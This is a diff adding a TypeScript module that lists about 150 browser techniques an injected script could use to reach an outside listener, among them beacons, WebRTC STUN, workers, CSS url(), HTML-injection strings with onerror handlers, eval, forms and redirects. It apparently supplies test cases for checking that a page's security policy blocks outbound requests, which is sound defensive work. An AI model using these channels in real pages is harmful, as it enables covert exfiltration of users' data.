@@ -1,0 +1,578 @@
+/** Ways in which a script could send something away, each handed an address that is listened at. They are written as whoever had
+ * got a script into the page would write them, and run where their list says. Each must be a function of its own, since it
+ * is carried into the browser as text. */
+
+export interface Address {
+  /** http://…/ of a listener. */
+  readonly http: string;
+  /** Its host and port. */
+  readonly place: string;
+  /** A name to be looked up, which nobody has. */
+  readonly name: string;
+}
+export type Way = (to: Address) => unknown;
+export type Ways = Readonly<Record<string, Way>>;
+
+/* What runs in the browser may use whatever browsers have, known to our types or not. */
+declare const self: any;
+declare const window: any;
+declare const document: any;
+
+/** One after the other in one page, which they leave standing. */
+export const inPage: Ways = {
+  fetch: to => fetch(to.http),
+  'fetch, posted and kept alive': to => fetch(to.http, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
+  fetchLater: to => self.fetchLater(to.http, { activateAfter: 0 }),
+  XMLHttpRequest: to => {
+    const request = new XMLHttpRequest();
+    request.open('GET', to.http);
+    request.send();
+  },
+  'XMLHttpRequest that waits': to => {
+    const request = new XMLHttpRequest();
+    request.open('GET', to.http, false);
+    request.send();
+  },
+  beacon: to => navigator.sendBeacon(to.http, 'x'),
+  WebSocket: to => void new WebSocket(`ws://${to.place}/`),
+  WebSocketStream: to => void new self.WebSocketStream(`ws://${to.place}/`),
+  EventSource: to => void new EventSource(to.http),
+  WebTransport: to => void new self.WebTransport(`https://${to.place}/`),
+  'WebRTC, STUN': async to => {
+    const peer = new self.RTCPeerConnection({ iceServers: [{ urls: `stun:${to.place}` }] });
+    peer.createDataChannel('x');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+
+  'fetch of an empty frame': to => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    return frame.contentWindow.fetch(to.http);
+  },
+  'fetch of the hidden frame': to => window.frames[0].fetch(to.http),
+
+  'a cache that fetches': async to => (await caches.open('way')).add(to.http),
+  'import()': to => import(`${to.http}x.js`),
+  worker: to => void new Worker(`${to.http}x.js`),
+  'worker of a blob': to =>
+    void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' }))),
+  'worker of a blob, of the hidden frame': to => {
+    const frame = window.frames[0];
+    void new frame.Worker(
+      frame.URL.createObjectURL(new frame.Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' })),
+    );
+  },
+  'worker of data:': to => void new Worker(`data:text/javascript,fetch(${JSON.stringify(to.http)})`),
+  'shared worker of a blob': to =>
+    void new SharedWorker(
+      URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' })),
+    ),
+  'service worker from elsewhere': to => navigator.serviceWorker.register(`${to.http}sw.js`),
+  'paint worklet': to => (CSS as any).paintWorklet.addModule(`${to.http}x.js`),
+  'sound worklet': to => new AudioContext().audioWorklet.addModule(`${to.http}x.js`),
+  image: to => {
+    new Image().src = to.http;
+  },
+  'image by srcset': to => {
+    new Image().srcset = `${to.http} 2x, ${to.http}a 1x`;
+  },
+  'picture source': to => {
+    const picture = document.createElement('picture');
+    const source = document.createElement('source');
+    source.srcset = to.http;
+    picture.append(source, new Image());
+    document.body.append(picture);
+  },
+  'image of an SVG': to => {
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
+    image.setAttribute('href', to.http);
+    svg.append(image);
+    document.body.append(svg);
+  },
+  'use of an SVG': to => {
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
+    use.setAttribute('href', `${to.http}x.svg#x`);
+    svg.append(use);
+    document.body.append(svg);
+  },
+  'filter of an SVG': to => {
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
+    const filter = document.createElementNS('http://www.w3.org/2000/svg', 'filter');
+    filter.id = 'way';
+    const image = document.createElementNS('http://www.w3.org/2000/svg', 'feImage');
+    image.setAttribute('href', to.http);
+    filter.append(image);
+    const shape = document.createElementNS('http://www.w3.org/2000/svg', 'rect');
+    shape.setAttribute('width', '9');
+    shape.setAttribute('height', '9');
+    shape.setAttribute('filter', 'url(#way)');
+    svg.append(filter, shape);
+    document.body.append(svg);
+  },
+  'image in an image': to => {
+    new Image().src = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to.http}"/></svg>`)}`;
+  },
+  video: to => {
+    const video = document.createElement('video');
+    video.preload = 'auto';
+    video.src = to.http;
+    document.body.append(video);
+  },
+  'poster of a video': to => {
+    const video = document.createElement('video');
+    video.poster = to.http;
+    document.body.append(video);
+  },
+  audio: to => {
+    const audio = new Audio();
+    audio.preload = 'auto';
+    audio.src = to.http;
+  },
+  'track of a video': to => {
+    const video = document.createElement('video');
+    video.crossOrigin = 'anonymous';
+    const track = document.createElement('track');
+    track.default = true;
+    track.src = to.http;
+    video.append(track);
+    document.body.append(video);
+    track.track.mode = 'showing';
+  },
+  embed: to => {
+    const embed = document.createElement('embed');
+    embed.src = to.http;
+    document.body.append(embed);
+  },
+  object: to => {
+    const object = document.createElement('object');
+    object.data = to.http;
+    document.body.append(object);
+  },
+  frame: to => {
+    const frame = document.createElement('iframe');
+    frame.src = to.http;
+    document.body.append(frame);
+  },
+  'frame of data:': to => {
+    const frame = document.createElement('iframe');
+    frame.src = `data:text/html,<img src="${to.http}">`;
+    document.body.append(frame);
+  },
+  'frame of a blob': to => {
+    const frame = document.createElement('iframe');
+    frame.src = URL.createObjectURL(new Blob([`<img src="${to.http}">`], { type: 'text/html' }));
+    document.body.append(frame);
+  },
+  'frame by srcdoc': to => {
+    const frame = document.createElement('iframe');
+    frame.srcdoc = `<img src="${to.http}"><script>fetch("${to.http}")</script>`;
+    document.body.append(frame);
+  },
+
+  'script element': to => {
+    const script = document.createElement('script');
+    script.src = `${to.http}x.js`;
+    document.body.append(script);
+  },
+  'module element': to => {
+    const script = document.createElement('script');
+    script.type = 'module';
+    script.src = `${to.http}x.js`;
+    document.body.append(script);
+  },
+  'inline script': to => {
+    const script = document.createElement('script');
+    script.append(`new Image().src=${JSON.stringify(to.http)};fetch(${JSON.stringify(to.http)})`);
+    document.body.append(script);
+  },
+  'import map': to => {
+    const map = document.createElement('script');
+    map.type = 'importmap';
+    map.append(JSON.stringify({ imports: { way: `${to.http}x.js` } }));
+    document.head.append(map);
+    const name = 'way';
+    return import(name);
+  },
+  'speculation rules': to => {
+    const rules = document.createElement('script');
+    rules.type = 'speculationrules';
+    rules.append(JSON.stringify({ prefetch: [{ urls: [to.http], eagerness: 'immediate' }] }));
+    document.head.append(rules);
+  },
+  'style sheet by link': to => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  preload: to => {
+    const link = document.createElement('link');
+    link.rel = 'preload';
+    link.as = 'image';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  modulepreload: to => {
+    const link = document.createElement('link');
+    link.rel = 'modulepreload';
+    link.href = `${to.http}x.js`;
+    document.head.append(link);
+  },
+  prefetch: to => {
+    const link = document.createElement('link');
+    link.rel = 'prefetch';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  prerender: to => {
+    const link = document.createElement('link');
+    link.rel = 'prerender';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  preconnect: to => {
+    const link = document.createElement('link');
+    link.rel = 'preconnect';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'dns-prefetch': to => {
+    const link = document.createElement('link');
+    link.rel = 'dns-prefetch';
+    link.href = `http://${to.name}/`;
+    document.head.append(link);
+  },
+  icon: to => {
+    const link = document.createElement('link');
+    link.rel = 'icon';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  manifest: to => {
+    document.querySelector('link[rel=manifest]')?.remove();
+    const link = document.createElement('link');
+    link.rel = 'manifest';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'compression dictionary': to => {
+    const link = document.createElement('link');
+    link.rel = 'compression-dictionary';
+    link.href = to.http;
+    document.head.append(link);
+  },
+  'image button': to => {
+    const input = document.createElement('input');
+    input.type = 'image';
+    input.src = to.http;
+    document.body.append(input);
+  },
+  'background attribute': to => {
+    const whole = document.createElement('table');
+    whole.setAttribute('background', to.http);
+    document.body.append(whole);
+  },
+  'style attribute': to => {
+    const box = document.createElement('div');
+    box.setAttribute('style', `background:url(${to.http})`);
+    box.append('x');
+    document.body.append(box);
+  },
+  'style of an element': to => {
+    const box = document.createElement('div');
+    box.style.backgroundImage = `image-set(url(${to.http}) 1x)`;
+    box.append('x');
+    document.body.append(box);
+  },
+  'border, cursor, list and mask': to => {
+    const box = document.createElement('li');
+    box.style.borderImageSource = `url(${to.http}a)`;
+    box.style.cursor = `url(${to.http}b), auto`;
+    box.style.listStyleImage = `url(${to.http}c)`;
+    box.style.maskImage = `url(${to.http}d)`;
+    box.style.content = `url(${to.http}e)`;
+    box.append('x');
+    document.body.append(box);
+  },
+  'style element': to => {
+    const style = document.createElement('style');
+    style.append(`body{background:url(${to.http}a)} @import url(${to.http}b);`);
+    document.head.append(style);
+  },
+  '@import by rule': to => {
+    document.styleSheets[0].insertRule(`@import url(${to.http})`, 0);
+  },
+  'rule with an image': to => {
+    document.styleSheets[0].insertRule(`html::before{content:url(${to.http})}`, 0);
+  },
+  'sheet made by script': to => {
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync(`html::after{content:url(${to.http})}`);
+    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+  },
+  'face by script': to => new FontFace('way', `url(${to.http})`).load(),
+  'face by rule': to => {
+    document.styleSheets[0].insertRule(`@font-face{font-family:way2;src:url(${to.http})}`, 0);
+    const box = document.createElement('p');
+    box.style.fontFamily = 'way2';
+    box.append('x');
+    document.body.append(box);
+    return document.fonts.load('1rem way2');
+  },
+
+  'another base': to => {
+    const base = document.createElement('base');
+    base.href = to.http;
+    document.head.append(base);
+    const image = new Image();
+    image.src = 'way.png';
+    base.remove();
+  },
+  innerHTML: to => {
+    const box = document.createElement('div');
+    document.body.append(box);
+    box.innerHTML = `<img src="${to.http}" onerror="fetch('${to.http}')">`;
+  },
+  outerHTML: to => {
+    const box = document.createElement('div');
+    document.body.append(box);
+    box.outerHTML = `<svg onload="fetch('${to.http}')"><image href="${to.http}"/></svg>`;
+  },
+  insertAdjacentHTML: to => document.body.insertAdjacentHTML('beforeend', `<img src="${to.http}">`),
+  setHTMLUnsafe: to => {
+    const box = document.createElement('div');
+    document.body.append(box);
+    box.setHTMLUnsafe(`<img src="${to.http}">`);
+  },
+  'document.write': to => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    frame.contentDocument.write(`<img src="${to.http}">`);
+  },
+  'fragment of a range': to =>
+    document.body.append(document.createRange().createContextualFragment(`<img src="${to.http}">`)),
+  'parsed document': to =>
+    document.body.append(
+      ...document.adoptNode(new DOMParser().parseFromString(`<img src="${to.http}">`, 'text/html').body).childNodes,
+    ),
+  'execCommand insertHTML': to => {
+    const box = document.createElement('div');
+    box.contentEditable = 'true';
+    document.body.append(box);
+    box.focus();
+    document.execCommand('insertHTML', false, `<img src="${to.http}">`);
+  },
+  'handler by attribute': to => {
+    const box = document.createElement('button');
+    box.setAttribute('onclick', `fetch('${to.http}')`);
+    document.body.append(box);
+    box.click();
+  },
+  'javascript: link': to => {
+    const link = document.createElement('a');
+    link.href = `javascript:void fetch('${to.http}')`;
+    document.body.append(link);
+    link.click();
+  },
+  'javascript: frame': to => {
+    const frame = document.createElement('iframe');
+    frame.src = `javascript:void fetch('${to.http}')`;
+    document.body.append(frame);
+  },
+  // Asked for later: what the tool that runs this may do is more than a page may.
+  eval: to => void self.scheduler.postTask(() => self.eval(`new Image().src='${to.http}'`)),
+  // oxlint-disable-next-line typescript/no-implied-eval -- that it is one is the point
+  Function: to => void self.scheduler.postTask(() => new self.Function(`new Image().src='${to.http}'`)()),
+  // oxlint-disable-next-line typescript/no-implied-eval -- that it is one is the point
+  'timer with text': to => void self.setInterval(`new Image().src='${to.http}'`),
+  'ping of a link': to => {
+    const link = document.createElement('a');
+    link.href = '#';
+    link.setAttribute('ping', to.http);
+    document.body.append(link);
+    link.click();
+  },
+
+  popup: to => void window.open(to.http),
+  'popup without opener': to => void window.open(to.http, '_blank', 'noopener'),
+  'link to another tab': to => {
+    const link = document.createElement('a');
+    link.href = to.http;
+    link.target = '_blank';
+    document.body.append(link);
+    link.click();
+  },
+  'empty popup, then sent away': to => {
+    const other = window.open('about:blank');
+    other.location.href = to.http;
+  },
+
+  attributionsrc: to => {
+    const image = document.createElement('img');
+    image.setAttribute('attributionsrc', to.http);
+    document.body.append(image);
+  },
+  'federated sign-in': to =>
+    (navigator as any).credentials.get({ identity: { providers: [{ configURL: `${to.http}x.json`, clientId: 'x' }] } }),
+  'payment request': to =>
+    new self.PaymentRequest([{ supportedMethods: `https://${to.place}/` }], {
+      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
+    }).canMakePayment(),
+  'notice with an icon': to => void new Notification('x', { icon: to.http }),
+  'cover of what plays': to => {
+    (navigator as any).mediaSession.metadata = new self.MediaMetadata({ artwork: [{ src: to.http }] });
+  },
+  'fetch in the background': async to =>
+    ((await navigator.serviceWorker.ready) as any).backgroundFetch.fetch('way', to.http),
+  'fenced frame': to => {
+    const frame = document.createElement('fencedframe');
+    document.body.append(frame);
+    frame.config = new self.FencedFrameConfig(to.http);
+  },
+  'shared storage': to => self.sharedStorage.createWorklet(`${to.http}x.js`),
+  'style by XSLT': to => {
+    const xsl = new DOMParser().parseFromString(
+      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="{document('${to.http}')}"/></xsl:template></xsl:stylesheet>`,
+      'text/xml',
+    );
+    const made = new self.XSLTProcessor();
+    made.importStylesheet(xsl);
+    document.body.append(made.transformToFragment(new DOMParser().parseFromString('<a/>', 'text/xml'), document));
+  },
+};
+
+/** Each in a page of its own, which it takes away or changes. Chromium ends a page that tries some of them. */
+export const leaving: Ways = {
+  'download link': to => {
+    const link = document.createElement('a');
+    link.href = to.http;
+    link.download = 'x';
+    document.body.append(link);
+    link.click();
+  },
+  'form in a frame': to => {
+    const frame = document.createElement('iframe');
+    frame.name = 'into';
+    document.body.append(frame);
+    const form = document.createElement('form');
+    form.action = to.http;
+    form.method = 'post';
+    form.target = 'into';
+    document.body.append(form);
+    form.submit();
+  },
+  'form to another tab': to => {
+    const form = document.createElement('form');
+    form.action = to.http;
+    form.target = '_blank';
+    document.body.append(form);
+    form.submit();
+  },
+  'WebRTC of an empty frame': async to => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${to.place}` }] });
+    peer.createDataChannel('x');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  'WebRTC of the hidden frame': async to => {
+    const peer = new window.frames[0].RTCPeerConnection({ iceServers: [{ urls: `stun:${to.place}` }] });
+    peer.createDataChannel('x');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  'the hidden frame, sent away': to => {
+    window.frames[0].location.href = to.http;
+  },
+  'policy that reports': to => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'Content-Security-Policy';
+    meta.content = `img-src 'none'; report-uri ${to.http}`;
+    document.head.append(meta);
+    new Image().src = './icons/icon-192.png?way';
+  },
+  'location.href': to => {
+    window.location.href = to.http;
+  },
+  'location.replace': to => window.location.replace(to.http),
+  'navigation.navigate': to => void self.navigation.navigate(to.http),
+  'a link': to => {
+    const link = document.createElement('a');
+    link.href = to.http;
+    document.body.append(link);
+    link.click();
+  },
+  form: to => {
+    const form = document.createElement('form');
+    form.action = to.http;
+    document.body.append(form);
+    form.submit();
+  },
+  'form, posted': to => {
+    const form = document.createElement('form');
+    form.action = to.http;
+    form.method = 'post';
+    document.body.append(form);
+    form.submit();
+  },
+  'form of a button': to => {
+    const form = document.createElement('form');
+    const button = document.createElement('button');
+    button.formAction = to.http;
+    form.append(button);
+    document.body.append(form);
+    button.click();
+  },
+  'meta refresh': to => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = `0;url=${to.http}`;
+    document.head.append(meta);
+  },
+  'the frame’s parent': to => {
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    frame.contentWindow.parent.location.href = to.http;
+  },
+};
+
+export const inWorker: Ways = {
+  fetch: to => fetch(to.http),
+  XMLHttpRequest: to => {
+    const request = new XMLHttpRequest();
+    request.open('GET', to.http);
+    request.send();
+  },
+  WebSocket: to => void new WebSocket(`ws://${to.place}/`),
+  WebSocketStream: to => void new self.WebSocketStream(`ws://${to.place}/`),
+  EventSource: to => void new EventSource(to.http),
+  WebTransport: to => void new self.WebTransport(`https://${to.place}/`),
+  importScripts: to => self.importScripts(`${to.http}x.js`),
+  'import()': to => import(`${to.http}x.js`),
+  'worker of a blob': to =>
+    void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to.http)})`], { type: 'text/javascript' }))),
+  'worker of data:': to => void new Worker(`data:text/javascript,fetch(${JSON.stringify(to.http)})`),
+  'a cache that fetches': async to => (await caches.open('way')).add(to.http),
+  face: to => new FontFace('way', `url(${to.http})`).load(),
+  'notice with an icon': to => void new Notification('x', { icon: to.http }),
+  eval: to => void self.scheduler.postTask(() => self.eval(`fetch('${to.http}')`)),
+};
+
+export const inServiceWorker: Ways = {
+  fetch: to => fetch(to.http),
+  WebSocket: to => void new WebSocket(`ws://${to.place}/`),
+  WebSocketStream: to => void new self.WebSocketStream(`ws://${to.place}/`),
+  EventSource: to => void new EventSource(to.http),
+  WebTransport: to => void new self.WebTransport(`https://${to.place}/`),
+  importScripts: to => self.importScripts(`${to.http}x.js`),
+  'a cache that fetches': async to => (await caches.open('way')).add(to.http),
+  face: to => new FontFace('way', `url(${to.http})`).load(),
+  'a page sent away': async to => {
+    for (const client of await self.clients.matchAll())
+      if (client.frameType === 'nested') await client.navigate(to.http);
+  },
+  'a page opened': to => self.clients.openWindow(to.http),
+  'notice with an icon': to => self.registration.showNotification('x', { icon: to.http }),
+  'fetch in the background': to => self.registration.backgroundFetch.fetch('way', to.http),
+};
